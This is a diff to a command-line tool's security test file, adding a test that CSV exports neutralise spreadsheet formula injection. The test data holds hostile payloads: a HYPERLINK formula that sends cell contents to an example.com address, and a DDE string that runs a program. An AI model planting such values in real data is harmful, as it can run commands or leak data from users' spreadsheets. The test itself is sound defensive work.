@@ -1,5 +1,5 @@
-// Attacks on users of the command line: texts that control a terminal (attack 142), and names that imitate another organization's (attack
-// 143).
+// Attacks on users of the command line: texts that control a terminal (attack 142), names that imitate another organization's (attack 143),
+// and texts that a spreadsheet would run (attack 378).
 
 import assert from "node:assert/strict";
 import { mkdtemp, rm } from "node:fs/promises";
@@ -12,6 +12,7 @@ import { text } from "#base/json.ts";
 import { isUnprintable } from "../../cli/output/escape.ts";
 import { outputFormats } from "../../cli/output/format.ts";
 import { runGantry } from "../command-line.ts";
+import { openOwners } from "../owner.ts";
 import { openWorld, type World } from "../world.ts";
 
 let world: World;
@@ -79,6 +80,23 @@ test("attack 142: a line break in a name adds no line to the output that scripts
   for (const format of ["uid", "name", "jsonl"] as const) {
     const { out } = await runGantry(["iam", "groups", "list", "-o", format], { environment: at });
     assert.equal(out.split("\n").length, 2, format);
+  }
+});
+
+test("attack 378: a CSV export runs no text of another user as a formula in a spreadsheet", async () => {
+  const parent = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: "spreadsheet" } }), "uid");
+  const owner = await openOwners(world).token(parent);
+  const formulas = ['=HYPERLINK("https://example.com/"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\uff1d1"];
+  for (const [index, description] of formulas.entries())
+    await world.ok("iam.GroupsService/CreateGroup", { parent, group: { name: `group-${index}`, description } }, { token: owner });
+  const { out } = await runGantry(["iam", "groups", "list", "--children-of", parent, "--order-by", "name", "-o", "csv"], {
+    environment: { ...environment, GANTRY_TOKEN: owner },
+  });
+  const lines = out.trimEnd().split("\r\n").slice(1);
+  assert.equal(lines.length, formulas.length);
+  for (const [index, line] of lines.entries()) {
+    const cell = `'${formulas[index] ?? ""}`;
+    assert.ok(line.startsWith(`group-${index},${/[",]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell},`), line);
   }
 });
 
